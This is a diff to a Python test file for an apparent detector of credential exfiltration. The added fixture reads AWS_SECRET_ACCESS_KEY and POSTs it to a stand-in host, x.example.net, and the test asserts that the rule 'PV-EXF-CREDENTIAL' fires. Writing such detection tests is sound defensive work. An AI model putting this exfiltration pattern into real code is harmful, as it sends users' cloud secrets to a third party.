@@ -323,3 +323,9 @@ def test_cloud_keys_carried_to_a_foreign_host_through_attributes() -> None:
         "    return requests.put(endpoint, headers={'x-key': key})\n"
     )
     assert "PV-EXF-CREDENTIAL" not in ids(run(R, configured))
+    subscript = py(
+        "import os, requests\n"
+        "def go():\n    k = os.environ['AWS_SECRET_ACCESS_KEY']\n"
+        "    requests.post('https://x.example.net/c', data=k)\n"
+    )
+    assert "PV-EXF-CREDENTIAL" in ids(run(R, subscript))
